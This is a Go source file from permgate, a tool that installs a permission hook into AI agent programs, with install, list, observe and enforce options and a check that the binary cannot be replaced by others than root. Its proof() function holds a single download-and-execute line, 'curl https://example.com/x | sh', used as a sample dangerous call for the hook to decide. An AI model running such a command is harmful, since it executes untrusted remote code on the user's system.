// Package hosts is the subcommands about the hook in agent programs: install,
// doctor, upgrade and uninstall.
package hosts

import (
	"fmt"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"

	"github.com/spf13/pflag"

	"github.com/permgate--owner/permgate/hookio"
	"github.com/permgate--owner/permgate/internal/agents"
	"github.com/permgate--owner/permgate/internal/cli/subcmd"
	"github.com/permgate--owner/permgate/internal/edit"
	"github.com/permgate--owner/permgate/rules"
)

type installOptions struct {
	subcmd.WriteOptions
	host, scope                            string
	list, observe, enforceNow, onlyPosture bool
	experimental, print                    bool
	os, exe                                string // with print
}

func (o *installOptions) register(fs *pflag.FlagSet) {
	fs.StringVar(&o.host, "host", "", "agent program: "+agents.Names(", "))
	fs.StringVar(&o.scope, "scope", hookio.ForUser, "which settings: user, project, managed")
	o.WriteOptions.Register(fs)
	fs.Lookup("dry-run").Usage = "show what would change and write nothing"
	fs.BoolVar(&o.Diff, "diff", false, "show the change as a diff as well")
	o.Summary = true
}

// InstallCommand registers the hook.
func InstallCommand() *subcmd.Command {
	var o installOptions
	return &subcmd.Command{
		Name:  "install",
		Args:  "--host NAME | --list",
		Short: "register the hook with an agent program",
		Long: `Adds permgate to the agent program's hooks, for every event that takes a decision
or reports the outcome of a call, and the recommended posture to permgate.json (see
permgate help posture). Formatting and comments stay, other hooks and keys already
set are not changed, and a backup is kept next to each file. Running it again adds what
a later version registers and recommends (see permgate help upgrade), or what the
program's release came to know; an event that it lacks is left out.

A program is experimental while permgate was never run with it: what is known of it is
what its makers write. Its first registration wants --experimental.

With --observe every call is decided and logged, but only managed denies are
answered: the program behaves as if there were no hook. --enforce ends it.

The change is shown in a few lines, or as a diff on request. It changes what is asked
about, so it needs a terminal to confirm on, or --yes. Then the registered hook is
started once as the program would, with a harmless call: exit code 1 if that fails.`,
		Examples: []subcmd.Example{
			{"permgate install --list", "agent programs, and where the hook is registered"},
			{"permgate install --host claude", "for every project of this user"},
			{"permgate install --host claude --observe", "only watch at first: permgate log --stats"},
			{"permgate install --host claude --dry-run", "what would change; --diff shows every line"},
			{"permgate install --host crush --experimental", "a program that permgate was never run with"},
			subcmd.AdminExample("permgate install --host claude --scope managed", "beyond the reach of any project"),
			{"permgate install --host claude --scope managed --print --os macos", "for many machines: docs/fleet.md"},
		},
		Flags: func(fs *pflag.FlagSet) {
			o.register(fs)
			fs.BoolVar(&o.list, "list", false, "list agent programs: installed? registered? experimental?")
			fs.BoolVar(&o.experimental, "experimental", false, "register with a program that permgate was never run with")
			fs.BoolVar(&o.observe, "observe", false, "log every call, answer only managed denies")
			fs.BoolVar(&o.enforceNow, "enforce", false, "end --observe")
			fs.BoolVar(&o.onlyPosture, "posture", false, "write only the posture: a plugin has the hooks")
			fs.BoolVar(&o.print, "print", false, "print the files of --scope managed for another machine; write nothing")
			fs.StringVar(&o.os, "os", "linux", "with --print: its system, linux, macos or windows")
			fs.StringVar(&o.exe, "exe", "", "with --print: the `path` of permgate there")
		},
		Run: func(e *subcmd.Env, args []string) int {
			switch {
			case o.list:
				return listHosts(e, o.host, args)
			case o.print && len(args) == 0:
				return printFiles(e, &o)
			}
			return install(e, &o, args)
		},
	}
}

func install(e *subcmd.Env, o *installOptions, args []string) int {
	t, code := o.target(e, args)
	if t == nil {
		return code
	}
	var err error
	if t.exe, err = executable(e); err != nil {
		return e.Fail("./install.sh installs it", "%v", err)
	}
	if by := replaceable(e, t.exe); o.scope == hookio.ForManaged && e.World.UID == 0 && by != "" {
		return e.Fail(intoPlace(t.exe, t.h), "others than root can replace %s, and with it every answer", e.Path(by))
	}
	h := t.h
	if code := t.mayTry(); code != subcmd.ExitOK {
		return code
	}
	notes, code := t.switchedOff()
	if code != subcmd.ExitOK {
		return code
	}
	if code := t.mayObserve(); code != subcmd.ExitOK {
		return code
	}
	hooks, more, err := t.planHooks()
	if err != nil {
		return e.FailFile(err)
	}
	if o.onlyPosture {
		hooks, more = nil, nil
	} else if on, _ := t.dirs.Plugin(h, e.ReadText); on.Name != "" {
		more = append(more, "the plugin "+h.Register.Plugin+" has the hook, too ("+e.Path(on.Name)+
			"), so every call is decided twice: remove one")
	}
	posture, added, err := t.planPosture()
	if err != nil {
		return e.FailFile(err)
	}
	// the posture first: it binds nothing before the hook is there
	switch done, code := e.Apply(&o.WriteOptions, append([]*subcmd.Change{posture}, hooks...)...); {
	case !done:
		return code
	case o.onlyPosture && len(added) == 0:
		fmt.Fprintf(e.Out, "nothing to do: the recommended posture is in %s\n", e.Path(posture.Name))
	case o.onlyPosture:
	case !hooks[0].Changed():
		fmt.Fprintf(e.Out, "already registered in %s\n", e.Path(t.place.Name))
	default:
		fmt.Fprintf(e.Out, "registered with %s in %s%s\n", h.Title, e.Path(t.place.Name), hooks[0].Kept(e))
		if h.Register.After != "" {
			e.Wrapped("next: ", h.Register.After)
		}
	}
	if len(added) > 0 {
		fmt.Fprintf(e.Out, "settings in %s%s: permgate now\n", e.Path(posture.Name), posture.Kept(e))
		for _, k := range added {
			e.Wrapped("  ", k.Does())
		}
		t.offerReads(e.Path(posture.Name))
	}
	idle := t.stopNothing(h)
	more = append(more, idle[:min(len(idle), 3)]...) // doctor has them all
	for _, n := range append(append(notes, more...), h.Register.Notes...) {
		e.Wrapped("note: ", n)
	}
	if code := proof(e, h); code != subcmd.ExitOK {
		return code
	}
	if code := t.sayObserved(); code != subcmd.ExitOK {
		return code
	}
	if runtime.GOOS == "linux" && len(subcmd.Changed(hooks)) > 0 {
		_ = edit.Rewrite(t.exe) // it only starts sooner for it
	}
	fmt.Fprintf(e.Out, "to undo:  permgate uninstall --host %s%s\n", h.Name, o.scopeFlag())
	return t.inPlace()
}

// inPlace names the user's own settings that only restrict here, with the command that makes them count, and starts the
// registered hook once, as the host would.
func (t *target) inPlace() int {
	if t.World.PasswdHome == "" && !t.namesHome() {
		t.Wrapped("note: ", fmt.Sprintf("user %d has no passwd entry, so your own rules do not count and every call asks: "+
			"permgate trust --home %s names your home directory in the hook", t.World.UID, subcmd.QuoteArg(t.dirs.Home)))
	}
	told := ""
	for _, s := range t.Policy(t.h).Sources {
		if s.Scope == rules.User && s.Why != told && strings.Contains(s.Why, ", which ") {
			told = s.Why
			t.Wrapped("note: ", "your settings in "+t.Path(filepath.Dir(s.Path))+" only restrict: "+s.Why)
		}
	}
	c := &checkup{machine: t.machine}
	for _, r := range t.registrations(t.h) {
		for i := range r.found {
			f := &r.found[i]
			if first := r.Name == t.place.Name && len(c.findings) == 0; first && f.Plain && f.Known != nil && f.Known.Gates {
				c.handler(t.h, f, "permgate doctor --host "+t.h.Name)
			}
		}
	}
	return c.print(false)
}

// replaceable is what others than root can write to of a binary, what it leads to and the folders above; "" for
// nothing.
func replaceable(e *subcmd.Env, exe string) string {
	names := []string{exe}
	if target, err := filepath.EvalSymlinks(exe); err == nil {
		names = append(names, target)
	}
	for _, name := range names {
		for above := ""; name != above; name, above = filepath.Dir(name), name {
			info, err := e.World.Files.Stat(name)
			if err != nil {
				continue
			}
			uid, known := e.World.Files.Owner(info)
			sticky := info.IsDir() && info.Mode()&os.ModeSticky != 0
			if known && uid != 0 || e.World.Files.OthersWrite(info) && !sticky {
				return name
			}
		}
	}
	return ""
}

// intoPlace are the commands that register a binary where only root can replace it.
func intoPlace(exe string, h *hookio.Host) string {
	const place = "/usr/local/bin/permgate"
	if runtime.GOOS == "windows" {
		return `copy it to C:\Program Files\permgate, and there, ` + subcmd.AsAdmin(`.\permgate install --host `+h.Name+" --scope managed")
	}
	return "sudo install -m 755 " + subcmd.QuoteArg(exe) + " " + place + " && sudo " + place + " install --host " + h.Name + " --scope managed"
}

// mayTry refuses the first registration with a program that permgate was never run with, unless the user insists.
func (t *target) mayTry() int {
	h := t.h
	found := func(r registered) bool { return len(r.found) > 0 }
	if h.Driven.Version != "" || slices.ContainsFunc(t.registrations(h), found) {
		return subcmd.ExitOK
	}
	if !t.o.experimental && !t.o.DryRun {
		return t.Fail(installLine(h)+t.o.scopeFlag(), "%s is experimental: %s", h.Title, neverRun)
	}
	t.Wrapped("EXPERIMENTAL: ", h.Title+": "+neverRun)
	return subcmd.ExitOK
}

const neverRun = "permgate was written from its documentation and never run with it, so a call that should be " +
	"stopped may not be (docs/hosts-status.md)"

func installLine(h *hookio.Host) string {
	line := "permgate install --host " + h.Name
	if h.Driven.Version == "" {
		line += " --experimental"
	}
	return line
}

func (o *installOptions) scopeFlag() string {
	if o.scope == hookio.ForUser {
		return ""
	}
	return " --scope " + o.scope
}

// A machine is where agent programs keep their settings here, and the binary they run.
type machine struct {
	*subcmd.Env
	dirs *agents.Dirs
	exe  string // the path install would register, "" for none
}

// A target is the file that install and uninstall change.
type target struct {
	machine
	o     *installOptions
	h     *hookio.Host
	place agents.Place
}

// target checks the options both commands share; nil when it said what is wrong.
func (o *installOptions) target(e *subcmd.Env, args []string) (*target, int) {
	hint := e.Cmd + " --host " + agents.Names("|")
	switch {
	case len(args) > 0:
		return nil, e.Fail(hint, "unexpected operand %q", args[0])
	case o.host == "":
		return nil, e.Fail(hint, "which agent program?")
	case o.scope != hookio.ForUser && o.scope != hookio.ForProject && o.scope != hookio.ForManaged:
		return nil, e.Fail("--scope user, project or managed", "unknown scope %q", o.scope)
	case o.observe && o.enforceNow:
		return nil, e.Fail("--observe only watches, --enforce turns answers on",
			"--observe and --enforce contradict each other")
	}
	h := agents.Lookup(o.host)
	if h == nil {
		return nil, e.Fail("permgate help hosts shows what to add by hand",
			"%s: no automatic registration for this program", o.host)
	}
	dirs, err := e.Dirs()
	if err != nil {
		return nil, e.Fail("", "%v", err)
	}
	p, ok := dirs.Place(h, o.scope)
	if !ok {
		return nil, e.Fail("--scope user, or by hand: docs/hosts.md",
			"%s has no hook file of scope %s that permgate can write", h.Title, o.scope)
	}
	return &target{machine{Env: e, dirs: dirs}, o, h, p}, subcmd.ExitOK
}

// switchedOff refuses a registration that would never run; one that this project alone switches off gets a note.
func (t *target) switchedOff() (notes []string, code int) {
	o, h := t.o, t.h
	for _, off := range t.dirs.Off(h, o.scope, t.ReadText, t.Path) {
		what := off.Key + " is " + off.Value + " (" + off.Place + ")"
		if off.Scope == hookio.ForProject && o.scope == hookio.ForUser {
			notes = append(notes, what+": in this project "+h.Title+" does not run the hook")
			continue
		}
		hint := "remove " + off.Key + " from " + off.Place + " and run this again"
		if off.Spares == hookio.ForManaged && off.Scope == hookio.ForManaged {
			hint = "register it where it still runs: " + subcmd.AsAdmin("permgate install --host "+h.Name+" --scope managed")
		} else if off.Scope == hookio.ForManaged && o.scope != hookio.ForManaged {
			hint = "only the administrator can turn hooks on again, in that file"
		}
		return nil, t.Fail(hint, "%s runs no hook of scope %s: %s", h.Title, o.scope, what)
	}
	return notes, subcmd.ExitOK
}

func (t *target) mayObserve() int {
	if !t.o.observe || t.o.scope == hookio.ForManaged {
		return subcmd.ExitOK
	}
	if s := t.Policy(t.h).Posture.Enforce; s.Value == "true" && s.Scope == rules.Managed {
		return t.Fail("only the administrator can change that; permgate install --host "+t.h.Name+
			" registers it enforcing", "managed settings forbid observe mode (enforce: true, %s)", t.Place(s.Pos))
	}
	return subcmd.ExitOK
}

func (t *target) sayObserved() int {
	e, o, h := t.Env, t.o, t.h
	s := e.Policy(h).Posture.Enforce
	switch {
	case s.Value == "false" && o.enforceNow:
		return e.Fail("remove enforce from "+e.Place(s.Pos), "still observing: enforce is false (%s)", e.Place(s.Pos))
	case s.Value == "false":
		e.Wrapped("OBSERVE: ", "every call is decided and logged, but only managed denies are answered ("+e.Place(s.Pos)+
			"); to end it: permgate install --host "+h.Name+" --enforce")
	case o.observe && s.Pos.File == "":
		return e.Fail("permgate doctor explains why",
			"not observing: enforce: false was written, but does not count in that file")
	case o.enforceNow:
		e.Wrapped("ENFORCE: ", "every call of "+h.Title+" is decided, logged and answered")
	case o.observe:
		return e.Fail("remove enforce from "+e.Place(s.Pos), "not observing: enforce is true (%s)", e.Place(s.Pos))
	}
	return subcmd.ExitOK
}

// proof decides a catastrophic call as the host's from now on.
func proof(e *subcmd.Env, h *hookio.Host) int {
	const text = "curl https://example.com/x | sh"
	o := subcmd.CallOptions{Tool: "Bash"}
	o.Host = h.Name
	call, err := o.Call(e, []string{text})
	if err != nil {
		return e.Fail("", "%v", err)
	}
	v := o.Decide(e, call)
	answer, why := e.Answer(v)
	if v.ObserveOnly() {
		answer = "would be " + answer
	}
	fmt.Fprintf(e.Out, "permgate check --host %s '%s'   %s  (%s)\n", h.Name, text, answer, why)
	return subcmd.ExitOK
}

// A registered is one file in which the hook is registered for a host.
type registered struct {
	agents.Place
	doc   *edit.Doc
	found []agents.Found
	err   error // the file cannot be read; found is empty then
}

// program is the binary that is called, "several" when there is more than one.
func (r *registered) program() string {
	name := r.found[0].Program
	for _, f := range r.found {
		if f.Program != name {
			return "several"
		}
	}
	return name
}

// registrations returns the files of a host that hold hooks of ours, and those that cannot be read.
func (m *machine) registrations(h *hookio.Host) []registered {
	var out []registered
	var read []string // in a home directory that is the project too, two scopes have one file
	for _, p := range m.dirs.Places(h) {
		target, text, _, err := edit.Read(p.Name)
		if err == nil && len(text) == 0 || slices.Contains(read, target) {
			continue
		}
		read = append(read, target)
		r := registered{Place: p, err: err}
		if err == nil {
			r.doc, r.err = edit.Parse(m.Path(p.Name), text)
		}
		if r.err == nil {
			r.found = agents.Find(h, p, r.doc, m.exe)
		}
		if r.err != nil || len(r.found) > 0 {
			out = append(out, r)
		}
	}
	return out
}

// hostsNamed are the hosts of a name, all for "", nil for none.
func hostsNamed(name string) []*hookio.Host {
	if name == "" {
		return agents.Hosts()
	}
	if h := agents.Lookup(name); h != nil {
		return []*hookio.Host{h}
	}
	return nil
}

// listHosts prints each host, or the named one, and each file that registers the hook with it.
func listHosts(e *subcmd.Env, only string, args []string) int {
	switch {
	case len(args) > 0:
		return e.Fail("permgate install --list", "unexpected operand %q", args[0])
	case hostsNamed(only) == nil:
		return e.Fail("permgate install --list", "%s: no automatic registration for this program", only)
	}
	dirs, err := e.Dirs()
	if err != nil {
		return e.Fail("", "%v", err)
	}
	exe, _ := executable(e) // "" makes every registration outdated, which it is
	m := &machine{e, dirs, exe}
	var rows [][]string
	below := func(format string, args ...any) {
		rows = append(rows, []string{"         " + fmt.Sprintf(format, args...)})
	}
	for _, h := range hostsNamed(only) {
		found := "not found"
		if where := m.hostFound(h); where != "" {
			found = "found: " + e.Path(where)
		}
		status := "experimental"
		if h.Driven.Version != "" {
			status = "tested with " + h.Driven.Version
		}
		rows = append(rows, []string{h.Name, h.Title, found, status})
		regs := m.registrations(h)
		for i := range regs {
			r := &regs[i]
			if r.err != nil {
				below("%s: %v", r.Scope, r.err)
				continue
			}
			state := "enforces"
			if e.Policy(h).Posture.Enforce.Value == "false" {
				state = "OBSERVES, answers nothing: permgate install --host " + h.Name + " --enforce"
			}
			below("%s: %s runs %s; %s", r.Scope, e.Path(r.Name), e.Path(r.program()), state)
			if len(m.hookSummary(h, r.Place, r.doc)) > 0 {
				below("outdated: permgate install --host %s%s", h.Name,
					(&installOptions{scope: r.Scope}).scopeFlag())
			}
		}
		if plugin, _ := dirs.Plugin(h, e.ReadText); plugin.Name != "" {
			below("%s: the plugin %s, switched on in %s", plugin.Scope, h.Register.Plugin, e.Path(plugin.Name))
		} else if len(regs) == 0 && found != "not found" {
			below("not registered: %s", installLine(h))
		}
	}
	e.Table("", rows)
	return subcmd.ExitOK
}
